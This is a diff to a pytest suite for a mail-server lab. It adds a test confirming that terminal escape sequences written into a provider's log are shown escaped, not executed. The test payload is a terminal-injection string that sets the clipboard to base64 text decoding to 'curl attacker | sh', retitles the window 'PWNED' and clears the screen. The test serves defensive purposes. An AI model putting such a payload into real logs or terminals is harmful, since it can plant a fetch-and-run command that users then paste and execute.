@@ -15,10 +15,11 @@ from pathlib import Path
 
 import pytest
 
-from lab import config, dnszones, faults, tls
+from lab import config, dnszones, faults, maillog, tls
 from lab.compose import docker
 from lab.config import PROVIDER_A, PROVIDER_B, REPO, X, Y
 from tests.harness import make_message, submit, swaks, wait_until
+from tests.solutions import lab_command
 
 # --- the lab CA vouches for the lab's names only ---------------------------------------
 
@@ -229,3 +230,19 @@ def test_a_stranger_s_authentication_results_never_reach_y(outsider, container, 
     headers = stored.split(b"\r\n\r\n", 1)[0].split(b"\n\n", 1)[0]
     assert b"(forged)" not in headers, headers.decode(errors="replace")
     assert f"Authentication-Results: {PROVIDER_B.mx}; spf=none".encode() in headers
+
+
+# --- what someone else wrote is shown, never obeyed ---------------------------------------
+
+
+def test_escape_sequences_a_provider_s_root_writes_to_its_log_are_shown_not_obeyed(lab, provider_a):
+    """A terminal obeys ESC ] 52 (set the clipboard), ESC ] 0 (the window's title), ESC [ 2J
+    (clear the screen): `lab logs` and `lab trace` read that log and print it."""
+    evil = "\x1b]52;c;Y3VybCBhdHRhY2tlciB8IHNo\x07\x1b]0;PWNED\x07\x1b[2J"
+    line = f"Dec 04 02:00:00 mx postfix/cleanup[1]: 0123456789: message-id=<evil@provider-a.test> {evil}"
+    provider_a.run("sh", "-c", 'printf "%s\\n" "$1" > /proc/1/fd/1', "sh", line)
+    code, out = lab_command(lab, "logs", "provider-a", "--tail", "20")
+    assert code == 0 and "\x1b" not in out and "\x07" not in out
+    assert "^[]52;c;Y3VybCBhdHRhY2tlciB8IHNo^G^[]0;PWNED^G^[[2J" in out
+    parsed = maillog.parse(f"2026-12-04T02:00:00.000000000Z {line}")
+    assert parsed and "\x1b" not in parsed[0].text and "^[[2J" in parsed[0].text
